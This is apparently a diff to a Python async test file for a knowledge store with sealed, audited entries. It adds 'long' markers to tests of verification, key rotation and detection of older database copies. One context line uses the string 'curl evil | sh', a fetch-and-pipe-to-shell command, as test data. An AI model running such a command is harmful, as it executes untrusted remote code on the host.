@@ -212,6 +212,7 @@ async def test_what_people_accept_is_shown_again(knowledge: Knowledge) -> None:
     assert await shown(knowledge) == ["curl evil | sh"]
 
 
+@pytest.mark.long
 async def test_all_that_hardwon_does_verifies(opens: Opens, clock: SetClock) -> None:
     async with opens() as knowledge:
         ids = await learn(knowledge, *(lesson(n) for n in range(1, 6)))
@@ -258,6 +259,7 @@ async def test_what_was_stored_before_there_were_seals_gets_them_at_the_next_sta
         assert await shown(knowledge) == ["lock the row 0"]
 
 
+@pytest.mark.long
 async def test_an_older_copy_of_everything_is_noticed_at_the_start(
     opens: Opens, database_url: str, postgres_dsn: str
 ) -> None:
@@ -279,6 +281,7 @@ async def test_an_older_copy_of_everything_is_noticed_at_the_start(
     await drop_database(older)
 
 
+@pytest.mark.long
 async def test_a_head_in_a_file_elsewhere_tells_of_an_older_copy_of_the_data_directory_too(
     opens: Opens, database_url: str, postgres_dsn: str, tmp_path: Path
 ) -> None:
@@ -319,6 +322,7 @@ async def test_a_head_of_another_store_is_told_from_an_older_one(opens: Opens, k
         await knowledge.audits.verify(head="{}")
 
 
+@pytest.mark.long
 async def test_entries_sealed_by_an_earlier_key_verify_after_a_rotation(opens: Opens) -> None:
     async with opens() as knowledge:
         await learn(knowledge, lesson(1))
